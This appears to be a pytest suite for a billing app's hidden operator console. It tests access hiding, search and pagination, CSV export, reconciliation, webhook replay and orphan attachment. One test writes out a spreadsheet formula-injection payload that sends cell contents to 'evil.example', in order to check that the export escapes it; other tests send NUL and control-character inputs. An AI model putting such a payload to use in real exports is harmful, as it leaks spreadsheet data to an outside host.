"""/api/ops/*: every route answers operators, and answers everyone else exactly as an unknown route."""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from datetime import UTC, datetime

import pytest
from sqlmodel import select

from billing_app.auth import api_tokens
from billing_app.db import session_scope
from billing_app.models import (
    ApiToken,
    BillingCustomer,
    OperatorAudit,
    WebhookEvent,
    utcnow,
)
from billing_app.state import SESSION_COOKIE
from tests.api.helpers import bearer, token_for
from tests.billing.helpers import buy, make_org
from tests.ops.helpers import customer_of_org, make_operator, session_token

UNKNOWN = {"success": False, "error_code": "NOT_FOUND", "message": "No such API route."}


@pytest.fixture
def world(org, stripe_env):
    """Acme (admin, member) with a subscription, Globex without, and an operator (admin of their own org)."""
    buy(org, "starter", "MONTHLY", sandbox=stripe_env)
    other = make_org("Globex", "admin@globex.example", "member@globex.example")
    operator = make_operator()
    return {"org": org, "other": other, "operator": operator, "ops": bearer(token_for(operator))}


def routes(world) -> list[tuple[str, str]]:
    org_id, customer = world["org"].id, customer_of_org(world["org"].id)
    with session_scope() as s:
        s.add(WebhookEvent(stripe_event_id="evt_1", type="invoice.paid", customer_id=customer, state="failed",
                           attempts=5, last_error="boom", payload="{}"))
    return [
        ("GET", "/api/ops/metrics"),
        ("GET", "/api/ops/orgs"),
        ("GET", "/api/ops/orgs?q=acme&status=active&sort=-mrr"),
        ("GET", "/api/ops/orgs.csv"),
        ("GET", f"/api/ops/orgs/{org_id}"),
        ("POST", f"/api/ops/orgs/{org_id}/reconcile"),
        ("GET", "/api/ops/events?state=failed"),
        ("GET", "/api/ops/events/counts"),
        ("POST", "/api/ops/events/1/replay"),
        ("POST", "/api/ops/events/replay-failed"),
        ("GET", "/api/ops/orphans"),
        ("POST", f"/api/ops/orphans/cus_nope/attach?orgId={world['other'].id}"),
        ("GET", "/api/ops/audit"),
        ("GET", "/api/ops/reconcile"),
        ("POST", "/api/ops/reconcile"),
    ]


def assert_unknown_route(response):
    assert (response.status_code, response.json()) == (404, UNKNOWN), response.text


def test_no_one_but_an_operator_learns_the_console_exists(client, world, stripe_env):
    org, other = world["org"], world["other"]
    revoked = token_for(other.admin)
    with session_scope() as s:
        row = s.exec(select(ApiToken).where(ApiToken.token_hash == api_tokens.token_hash(revoked))).one()
        row.revoked_at = utcnow()
    callers = {
        "visitor": {},
        "made-up token": bearer("bapi_madeup"),
        "revoked token": bearer(revoked),
        "member": bearer(token_for(org.member)),
        "admin": bearer(token_for(org.admin)),
        "admin of another org": bearer(token_for(other.admin)),
    }
    assert_unknown_route(client.get("/api/ops/does-not-exist"))  # what an unknown route looks like
    for method, path in routes(world):
        for who, headers in callers.items():
            assert_unknown_route(client.request(method, path, headers=headers))
        # A session cookie of a non-operator: the same.
        client.cookies.set(SESSION_COOKIE, session_token("admin@acme.example"))
        assert_unknown_route(client.request(method, path))
        client.cookies.clear()
    # Nothing is validated before the check (a 422 would name the route), nor is a wrong method a 405.
    admin = callers["admin"]
    assert_unknown_route(client.get("/api/ops/orgs?sort=bogus&nope=1", headers=admin))
    assert_unknown_route(client.get("/api/ops/orgs/not-a-number", headers=admin))
    assert_unknown_route(client.delete("/api/ops/orgs", headers=admin))
    assert_unknown_route(client.post("/api/ops/orgs/1/reconcile", headers=admin, content=b"{not json"))
    # Nor does the OpenAPI document mention it.
    assert "/ops" not in json.dumps(client.get("/api/openapi.json").json()["paths"])
    with session_scope() as s:  # nothing acted
        assert [a.action for a in s.exec(select(OperatorAudit))] == ["grant_operator"]
        assert s.exec(select(WebhookEvent.state)).all() == ["failed"]


def test_every_route_answers_an_operator(client, world, stripe_env):
    ops = world["ops"]
    for method, path in routes(world):
        response = client.request(method, path, headers=ops)
        if path.startswith("/api/ops/orphans/cus_nope"):
            assert response.status_code == 404 and response.json()["error_code"] == "NOT_FOUND"  # Stripe has none
        else:
            assert response.status_code in (200, 202), (path, response.text)
        if path == "/api/ops/reconcile" and method == "POST":
            wait_for_run(client, ops, response.json()["runId"])
    # And the cookie of an operator's browser session works too (the console's CSV link).
    client.cookies.set(SESSION_COOKIE, session_token("ops@saas.example"))
    assert client.get("/api/ops/orgs.csv").status_code == 200


def wait_for_run(client, headers, run_id: int) -> dict:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        run = next(r for r in client.get("/api/ops/reconcile", headers=headers).json()["runs"] if r["id"] == run_id)
        if run["state"] != "running":
            return run
        time.sleep(0.1)
    raise AssertionError("the bulk reconcile did not finish")


def test_orgs_search_filter_sort_paginate_and_export(client, world, stripe_env):
    ops = world["ops"]
    names = lambda body: [o["name"] for o in body["orgs"]]  # noqa: E731
    everyone = client.get("/api/ops/orgs?sort=name", headers=ops).json()
    assert names(everyone) == sorted(names(everyone), key=str.lower) and len(everyone["orgs"]) == 5
    acme = next(o for o in everyone["orgs"] if o["name"] == "Acme")
    assert (acme["plan"], acme["status"], acme["mrr"], acme["currency"], acme["seatsUsed"], acme["seatLimit"]) == (
        "Starter", "active", 900, "usd", 2, 3)
    assert set(names(client.get("/api/ops/orgs?q=ACM", headers=ops).json())) == {"Acme", "Acme (member's own)"}
    # By a member's email: the member is in Globex and admin of their own org.
    assert set(names(client.get("/api/ops/orgs?q=member@globex", headers=ops).json())) == {"Globex", "Globex (member's own)"}
    assert names(client.get(f"/api/ops/orgs?q={customer_of_org(world['org'].id)}", headers=ops).json()) == ["Acme"]
    # By id, in ASCII digits only ("٧" is not org 7; a number past the ids finds nothing).
    acme_id = world["org"].id
    assert names(client.get("/api/ops/orgs", params={"q": str(acme_id)}, headers=ops).json()) == ["Acme"]
    arabic_indic = "".join(chr(0x660 + int(d)) for d in str(acme_id))
    assert names(client.get("/api/ops/orgs", params={"q": arabic_indic}, headers=ops).json()) == []
    assert names(client.get("/api/ops/orgs", params={"q": "9" * 30}, headers=ops).json()) == []
    # A NUL was a 500 on PostgreSQL (it refuses one in a query); every control character is refused in words.
    for path, params in (("/api/ops/orgs", {"q": "Ac\x00me"}), ("/api/ops/events", {"customer": "cus_\x00"}),
                         ("/api/ops/events", {"type": "invoice.\npaid"}), ("/api/ops/audit", {"action": "replay\x00"})):
        refused = client.get(path, params=params, headers=ops)
        assert refused.status_code == 422 and refused.json()["error_code"] == "VALIDATION_ERROR", refused.text
        assert "cannot contain line breaks or control characters" in refused.json()["message"]
    assert names(client.get("/api/ops/orgs?status=active", headers=ops).json()) == ["Acme"]
    assert "Acme" not in names(client.get("/api/ops/orgs?status=none", headers=ops).json())
    assert names(client.get("/api/ops/orgs?sort=-mrr&limit=1", headers=ops).json()) == ["Acme"]
    # Keyset pages: every org once, in order, whatever the sort.
    for sort in ("-created", "created", "name", "-name", "-mrr", "mrr"):
        seen, cursor = [], None
        while True:
            body = client.get("/api/ops/orgs", params={"sort": sort, "limit": 2, **({"cursor": cursor} if cursor else {})},
                              headers=ops).json()
            seen += [o["id"] for o in body["orgs"]]
            cursor = body["nextCursor"]
            if cursor is None:
                break
        assert sorted(seen) == sorted(o["id"] for o in everyone["orgs"]) and len(seen) == len(set(seen)), sort
    bad = client.get("/api/ops/orgs?cursor=garbage", headers=ops)
    assert bad.status_code == 422 and bad.json()["error_code"] == "VALIDATION_ERROR"
    exported = client.get("/api/ops/orgs.csv?status=active", headers=ops)
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["name"], r["plan"], r["status"], r["mrr"], r["currency"]) for r in rows] == [("Acme", "Starter", "active", "9.00", "USD")]


def test_the_orgs_export_shows_a_formula_in_an_org_name_as_text(client, world):
    """Anyone who signs up names an organization: named like a formula, it must reach the operator's
    spreadsheet as text (a ' in front), as the payments export does."""
    from billing_app.auth import accounts
    from tests.billing.helpers import PASSWORD

    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
    with session_scope() as s:
        accounts.register(s, email="mallory@example.com", password=PASSWORD, name="Mallory", org_name=evil)
    exported = client.get("/api/ops/orgs.csv?sort=name", headers=world["ops"])
    names = [row["name"] for row in csv.DictReader(io.StringIO(exported.text))]
    assert "'" + evil in names and "Acme" in names


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
def test_a_hand_made_orgs_cursor_outside_the_calendar_in_utc_is_refused(client, moment):
    ops = bearer(token_for(make_operator()))
    cursor = base64.urlsafe_b64encode(json.dumps([moment, 1]).encode()).decode()
    for sort in ("created", "-created"):
        response = client.get("/api/ops/orgs", params={"sort": sort, "cursor": cursor}, headers=ops)
        assert (response.status_code, response.json()["error_code"]) == (422, "VALIDATION_ERROR"), response.text


def test_a_hand_made_name_cursor_with_a_nul_is_refused(client):
    """PostgreSQL refuses a NUL in a query: a 422 like every other bad cursor, not a 500."""
    ops = bearer(token_for(make_operator()))
    cursor = base64.urlsafe_b64encode(json.dumps(["Acme\u0000", 1]).encode()).decode()
    response = client.get("/api/ops/orgs", params={"sort": "name", "cursor": cursor}, headers=ops)
    assert (response.status_code, response.json()["error_code"]) == (422, "VALIDATION_ERROR"), response.text


def test_org_detail_reconcile_and_audit(client, world, stripe_env):
    ops, org = world["ops"], world["org"]
    sub_id = client.get(f"/api/ops/orgs/{org.id}", headers=ops).json()["subscriptions"][0]["id"]
    stripe_env.client.v1.subscriptions.cancel(sub_id)  # drift: no webhook
    detail = client.get(f"/api/ops/orgs/{org.id}", headers=ops).json()
    assert detail["stripeDashboardUrl"] is None  # the sandbox has no dashboard
    assert {m["email"] for m in detail["members"]} == {"admin@acme.example", "member@acme.example"}
    changes = client.post(f"/api/ops/orgs/{org.id}/reconcile", headers=ops).json()["changes"]
    assert f"subscription {sub_id}: status 'active' -> 'canceled'" in changes
    assert client.get(f"/api/ops/orgs/{org.id}", headers=ops).json()["subscriptions"][0]["status"] == "canceled"
    assert client.get("/api/ops/orgs/999999", headers=ops).status_code == 404
    audit = client.get("/api/ops/audit", headers=ops).json()["audit"]
    assert [(a["operator"], a["action"], a["target"]) for a in audit][:1] == [("ops@saas.example", "reconcile", f"org:{org.id}")]


def test_org_detail_says_when_a_subscription_canceling_on_a_chosen_date_ends(client, world, stripe_env):
    """cancelAt: when it ends by itself, as the customer API says it (a date set in Stripe's Dashboard or API)."""
    ops, org = world["ops"], world["org"]
    row = client.get(f"/api/ops/orgs/{org.id}", headers=ops).json()["subscriptions"][0]
    assert (row["cancelAtPeriodEnd"], row["cancelAt"]) == (False, None)  # it renews
    stripe_sub = stripe_env.client.v1.subscriptions.retrieve(row["id"])
    at = stripe_sub["items"].data[0].current_period_end - 10 * 86_400
    stripe_env.client.v1.subscriptions.update(row["id"], params={"cancel_at": at})
    client.post(f"/api/ops/orgs/{org.id}/reconcile", headers=ops)
    row = client.get(f"/api/ops/orgs/{org.id}", headers=ops).json()["subscriptions"][0]
    assert (row["cancelAtPeriodEnd"], row["cancelAt"]) == (False, datetime.fromtimestamp(at, tz=UTC).isoformat().replace("+00:00", "Z"))


def test_events_filter_replay_one_and_all_failed(client, world, stripe_env):
    ops, customer = world["ops"], customer_of_org(world["org"].id)
    with session_scope() as s:
        for n, (type_, state) in enumerate([("invoice.paid", "failed"), ("invoice.paid", "processed"),
                                            ("charge.refunded", "failed"), ("customer.subscription.updated", "pending")]):
            s.add(WebhookEvent(stripe_event_id=f"evt_{n}", type=type_, customer_id=customer if n != 2 else "cus_other",
                               state=state, attempts=5 if state == "failed" else 1,
                               last_error="Stripe could not be reached" if state == "failed" else None, payload="{}"))
    body = client.get("/api/ops/events?state=failed", headers=ops).json()
    assert [e["stripeEventId"] for e in body["events"]] == ["evt_2", "evt_0"]
    assert body["events"][0]["lastError"] == "Stripe could not be reached"
    assert body["counts"] == {"pending": 1, "processed": 1, "failed": 2}
    assert [e["stripeEventId"] for e in client.get(f"/api/ops/events?type=invoice.paid&customer={customer}", headers=ops).json()["events"]] == ["evt_1", "evt_0"]
    today = utcnow().date().isoformat()
    assert len(client.get(f"/api/ops/events?startDate={today}&endDate={today}", headers=ops).json()["events"]) == 4
    assert client.get("/api/ops/events?startDate=2099-01-01", headers=ops).json()["events"] == []
    first = client.get("/api/ops/events?limit=3", headers=ops).json()
    assert client.get(f"/api/ops/events?limit=3&before={first['nextBefore']}", headers=ops).json()["events"][0]["stripeEventId"] == "evt_0"

    evt0 = next(e for e in body["events"] if e["stripeEventId"] == "evt_0")["id"]
    assert client.post(f"/api/ops/events/{evt0}/replay", headers=ops).json()["queued"] == 1
    assert client.get("/api/ops/events/counts", headers=ops).json()["counts"] == {"pending": 2, "processed": 1, "failed": 1}
    assert client.post("/api/ops/events/replay-failed", headers=ops).json()["queued"] == 1
    assert client.get("/api/ops/events/counts", headers=ops).json()["counts"] == {"pending": 3, "processed": 1, "failed": 0}
    assert client.post("/api/ops/events/999999/replay", headers=ops).status_code == 404
    actions = [a["action"] for a in client.get("/api/ops/audit", headers=ops).json()["audit"]]
    assert actions[:2] == ["replay_all_failed", "replay"]


def test_orphans_are_listed_and_attached_on_purpose(client, world, stripe_env):
    ops, other = world["ops"], world["other"]
    stray = stripe_env.client.v1.customers.create(params={"email": "stray@example.com"})
    stripe_env.client.v1.subscriptions.create(params={
        "customer": stray.id, "items": [{"price": stripe_env.client.v1.prices.list(params={"lookup_keys": ["pro_monthly_v1"]}).data[0].id}],
        "default_payment_method": "pm_card_visa"})
    run = client.post("/api/ops/reconcile", headers=ops)
    assert run.status_code == 202
    finished = wait_for_run(client, ops, run.json()["runId"])
    assert (finished["state"], finished["orphans"]) == ("done", 1)
    listed = client.get("/api/ops/orphans", headers=ops).json()["orphans"]
    assert [(o["customerId"], o["email"], o["claimedOrgId"]) for o in listed] == [(stray.id, "stray@example.com", None)]

    taken = client.post(f"/api/ops/orphans/{stray.id}/attach?orgId={world['org'].id}", headers=ops)
    assert taken.status_code == 422 and "already has the customer" in taken.json()["message"]
    attached = client.post(f"/api/ops/orphans/{stray.id}/attach?orgId={other.id}", headers=ops)
    assert attached.status_code == 200 and any("new" in line for line in attached.json()["changes"])
    assert client.get("/api/ops/orphans", headers=ops).json()["orphans"] == []
    with session_scope() as s:
        assert s.exec(select(BillingCustomer.stripe_customer_id).where(BillingCustomer.org_id == other.id)).one() == stray.id
    assert client.get(f"/api/ops/orgs/{other.id}", headers=ops).json()["org"]["status"] == "active"
    audit = client.get("/api/ops/audit", headers=ops).json()["audit"]
    assert (audit[0]["action"], audit[0]["target"], audit[0]["detail"]) == ("attach_orphan", stray.id, f"attached to org:{other.id}")
    assert any(a["action"] == "bulk_reconcile" for a in audit)
